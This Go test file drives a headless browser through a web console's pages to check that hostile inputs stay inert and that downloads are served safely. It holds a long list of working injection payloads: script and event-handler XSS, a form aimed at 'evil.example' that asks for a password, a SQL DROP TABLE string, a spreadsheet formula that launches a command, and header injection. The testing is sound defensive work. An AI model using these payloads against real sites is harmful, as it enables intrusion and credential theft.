package console

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	viewpaths "drawbridge/views/paths"
)

// newRefusal is an endpoint that answers every webhook with 500 and a page.
func newRefusal(t *testing.T) *httptest.Server {
	t.Helper()
	e := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("content-type", "text/html")
		w.Header().Set("x-powered-by", "Acme 4.2")
		w.WriteHeader(http.StatusInternalServerError)
		fmt.Fprint(w, "<h1>Internal Server Error</h1>\n<p>no connection to the orders database</p>")
	}))
	t.Cleanup(e.Close)
	return e
}

// hostile are values that an outsider may send to break a page. A value that runs calls
// ran(), one that becomes an element has the id intruder, and one that loads something
// requests it from the canary's address.
func hostile(canary string) []string {
	const run = `window.ran&&ran()`
	payloads := []string{
		`<script>` + run + `</script>`, `"><script>` + run + `</script>`,
		`'><script>` + run + `</script>`, `</textarea><script>` + run + `</script>`,
		`</title><script>` + run + `</script>`, `</pre></code><script>` + run + `</script>`,
		`</script><script>` + run + `</script>`, `--><script>` + run + `</script>`,
		`]]><script>` + run + `</script>`, `<script src=//evil.example/x.js></script>`,
		`<sCrIpT>` + run + `</ScRiPt>`, `<<script>` + run + `//<</script>`,
		`<script/x>` + run + `</script>`, "<script\x0b>" + run + `</script>`,
		`<b id=intruder>bold</b>`, `<h1 id=intruder>Heading</h1>`,
		`<form id=intruder action=//evil.example><input name=password>`,
		`<input id=intruder autofocus>`, `<button id=intruder formaction=//evil.example>x`,
		`<style id=intruder>*{display:none}</style>`,
		`<link id=intruder rel=stylesheet href=//evil.example>`,
		`<base id=intruder href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<iframe id=intruder src=javascript:parent.ran()></iframe>`,
		`<iframe id=intruder srcdoc="<script>parent.ran()</script>"></iframe>`,
		`<object id=intruder data=javascript:ran()></object>`,
		`<embed id=intruder src=javascript:ran()>`,
		`<a id=intruder href=javascript:ran()>link</a>`, `[link](javascript:ran())`,
		`javascript:ran()`, `JaVaScRiPt:ran()`, "java\tscript:ran()",
		`data:text/html,<script>ran()</script>`,
		`vbscript:ran()`, `x" autofocus onfocus="` + run, `x' onmouseover='` + run,
		"x` onerror=`" + run, `{{constructor.constructor("ran()")()}}`, `${ran()}`, `#{ran()}`,
		`<%= ran() %>`, `{{.}}`, `{{template "x"}}`,
		`<template id=intruder><script>ran()</script></template>`,
		`<math id=intruder><mtext><script>` + run + `</script>`,
		`&lt;script&gt;ran()&lt;/script&gt;`,
		`&#60;script&#62;ran()&#60;/script&#62;`, `%3Cscript%3Eran()%3C/script%3E`,
		`\u003cscript\u003eran()\u003c/script\u003e`, `\x3cscript\x3eran()`,
		`<div id=intruder hx-get=/console/sign-out hx-trigger=load>`,
		`<div id=intruder data-hx-on:load="ran()">`, `<p id=intruder hx-on::load="ran()">`,
		"\u202egnp.exe", "a\u200bb\u200cc\ufeffd", "\u2066left\u2069right",
		"e\u0301\u0302\u0303\u0304\u0305\u0306",
		strings.Repeat("W", 180), strings.Repeat("\u0e49", 60),
		"\U0001F468\u200D\U0001F469\u200D\U0001F467",
		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(1+1)`, "line one\nline two\r\nX-Evil: yes",
		"\\0\\x00%00null", "null", "undefined", "NaN", "\uFFFD\uFFFF",
		"NULL'; DROP TABLE partners; --",
	}
	for _, event := range []string{"onerror", "onload", "onfocus", "onclick", "ontoggle", "onbegin"} {
		payloads = append(payloads,
			`<img id=intruder src=x `+event+`="`+run+`">`,
			`<svg id=intruder `+event+`=`+run+`>`,
			`<details id=intruder open `+event+`=`+run+`>`)
	}
	for i, payload := range payloads {
		payloads[i] = strings.ReplaceAll(payload, "evil.example", canary)
	}
	return payloads
}

// canary is a server to which no page has a reason to make a request.
type canary struct {
	*httptest.Server
	asked atomic.Int64
}

func newCanary(t *testing.T) *canary {
	t.Helper()
	c := &canary{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {
		c.asked.Add(1)
	}))
	t.Cleanup(c.Close)
	return c
}

// guards record payloads that run, and those stopped only by the content security policy.
const guards = `
	window.caught = [];
	window.ran = () => { caught.push("it ran") };
	window.alert = window.confirm = window.prompt = () => { caught.push("a dialog") };
	addEventListener("securitypolicyviolation", (event) =>
		caught.push(event.violatedDirective + " of " + event.blockedURI + " " + event.sample));
	addEventListener("error", (event) => caught.push("error " + event.message));`

// intruders finds payloads that became elements of the page, and adds what guards recorded.
const intruders = `[...caught, ...[...document.querySelectorAll("#intruder, [onerror], [onload]," +
	"[onfocus], [onclick], [ontoggle], [onmouseover], [href^='javascript:' i]")].map(
	(element) => element.outerHTML.slice(0, 200))].join("\n")`

// inert fails the test if a payload runs, becomes an element of the open page, or reverses the
// direction of its text.
func (r *crawler) inert(path string) {
	r.T.Helper()
	if caught := evaluate(r.T, r.browser, intruders); caught != "" {
		r.T.Errorf("%s: %s", path, caught)
	}
	if evaluate(r.T, r.browser, `String(document.body.innerText.includes("\u202e"))`) == "true" {
		r.T.Errorf("%s shows a character that turns text round", path)
	}
}

// reflections are addresses whose query is shown on the page.
func reflections(c *canary) []string {
	said := `"><script src=//` + c.Listener.Addr().String() + `/x.js></script>`
	query := "?" + url.Values{"q": {said}, "name": {said}, "state": {said}, "since": {said}}.Encode()
	var paths []string
	for _, path := range []string{
		viewpaths.Search, viewpaths.Deliveries, viewpaths.Partners, viewpaths.Applications,
		viewpaths.Requests, viewpaths.Audit, viewpaths.Emails, viewpaths.Subscriptions,
	} {
		paths = append(paths, path+query)
	}
	return paths
}

// injected lists pages of the rows that contain payloads.
func (r *crawler) injected() []string {
	r.T.Helper()
	var paths []string
	err := r.db.Select(&paths, `
		(SELECT '/console/deliveries/' || delivery_uid FROM attempts
		  WHERE position('intruder'::bytea IN response_body) > 0 ORDER BY started_at DESC LIMIT 6)
		UNION (SELECT '/console/deliveries/' || delivery_uid FROM attempts
		  WHERE url LIKE 'https://127.0.0.1%' LIMIT 2)
		UNION (SELECT '/console/applications/' || application_uid FROM tasks
		  WHERE title ~ '[<{=]' LIMIT 6)
		UNION (SELECT '/console/emails/' || email_uid FROM email_attempts WHERE reply ~ '[<{=]' LIMIT 3)
		UNION (SELECT '/console/requests/' || request_uid FROM api_requests
		  WHERE user_agent LIKE '%<%' LIMIT 3)
		UNION (SELECT '/console/audit/' || entry_id FROM audit_log WHERE reason ~ '[<{=]' LIMIT 3)
		UNION (SELECT '/console/subscriptions/' || subscription_uid || '?tab=' || tab
		  FROM subscriptions, unnest('{configuration,health,versions}'::text[]) AS tab
		  WHERE url LIKE '%intruder%')
		UNION (SELECT '/console/applications/' || application_uid FROM certificates
		  JOIN certificate_files USING (certificate_uid) WHERE name LIKE '%<%' LIMIT 1)`)
	if err != nil || len(paths) < 20 {
		r.T.Fatalf("%d pages of payloads, %v", len(paths), err)
	}
	return paths
}

// mails opens the bodies of e-mails directly, outside the frame in which their page shows
// them.
func (r *crawler) mails() {
	r.T.Helper()
	var bodies []string
	err := r.db.Select(&bodies, `
		SELECT '/console/emails/' || email_uid || '/body' FROM emails
		 WHERE text_body ~ '[<{=]' ORDER BY created_at DESC LIMIT 3`)
	if err != nil || len(bodies) == 0 {
		r.T.Fatalf("%d mails with payloads, %v", len(bodies), err)
	}
	for _, path := range bodies {
		do(r.T, r.browser, chromedp.Navigate(r.server.URL+path))
		found := evaluate(r.T, r.browser, `[...(window.caught ?? []),
			...[...document.querySelectorAll("script, #intruder")].map((e) => e.outerHTML)].join("\n")`)
		if found != "" {
			r.T.Errorf("%s: %s", path, found)
		}
	}
}

// downloads fails the test if a browser would open a file from outsiders instead of saving it.
func (r *crawler) downloads() {
	r.T.Helper()
	var files []string
	err := r.db.Select(&files, `
		(SELECT '/console/applications/' || application_uid || '/files/' || file_uid
		   FROM certificate_files JOIN certificates USING (certificate_uid) LIMIT 4)
		UNION (SELECT '/console/emails/' || email_uid || '/source' FROM email_attempts
		        WHERE reply ~ '[<{=]' LIMIT 2)`)
	if err != nil || len(files) < 3 {
		r.T.Fatalf("%d files to download, %v", len(files), err)
	}
	client := r.person(r.data.Users[2])
	for _, path := range files {
		answer, err := client.Get(r.server.URL + path)
		if err != nil {
			r.T.Fatal(err)
		}
		_ = answer.Body.Close()
		header := answer.Header
		if answer.StatusCode != http.StatusOK || header.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.HasPrefix(header.Get("Content-Disposition"), "attachment") ||
			!strings.Contains(header.Get("Content-Security-Policy"), "default-src 'none'") {
			r.T.Errorf("%s answers %s with %v", path, answer.Status, header)
		}
	}
}
